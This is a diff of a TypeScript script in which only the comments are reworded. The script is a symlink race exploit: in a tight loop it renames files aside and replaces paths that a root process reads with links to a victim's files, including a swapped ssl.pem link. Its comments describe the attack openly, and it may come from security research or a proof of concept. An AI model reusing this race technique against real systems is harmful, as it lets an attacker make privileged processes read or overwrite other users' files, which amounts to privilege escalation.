@@ -1,8 +1,8 @@
 import { mkdirSync, renameSync, symlinkSync } from "node:fs";
 import { join } from "node:path";
 
-// Owns the folder of a destination, and puts links to a victim's files in the place of all that root looks at in it,
-// in a tight loop: the argument is the folder that `ssl` is in, and the victim's folder. Ends when it is told to.
+// Owns a destination's folder, and replaces everything that root looks at in it by links to a victim's files,
+// in a tight loop. The arguments are the folder above `ssl` and the victim's folder. Ends on SIGTERM.
 
 const [home = "", victim = ""] = process.argv.slice(2);
 process.setgroups?.([]);
@@ -16,11 +16,11 @@ function attempt(call: () => void): void {
   try {
     call();
   } catch {
-    // somebody was quicker: what counts is what root makes of it
+    // somebody was quicker; only root's reaction matters
   }
 }
 
-/** Leads a name elsewhere for a moment. What root made at it meanwhile is moved out of the way. */
+/** Makes a name lead elsewhere for a moment. Anything that root makes there meanwhile is moved away. */
 function lead(path: string, target: string, link: (path: string, target: string) => void): void {
   const aside = `${path}.aside-${tricks++}`;
   attempt(() => renameSync(path, aside));
@@ -35,7 +35,7 @@ function pause(milliseconds: number): void {
 }
 
 const ownLink = (path: string, target: string) => symlinkSync(target, path);
-/** A link that root made, which it trusts, and in the next moment one that leads elsewhere. */
+/** First a link that root made and trusts, then one that leads elsewhere. */
 const rootsLinkFirst = (path: string, target: string) => {
   renameSync(join(home, "ssl.pem"), path);
   pause(Math.random());
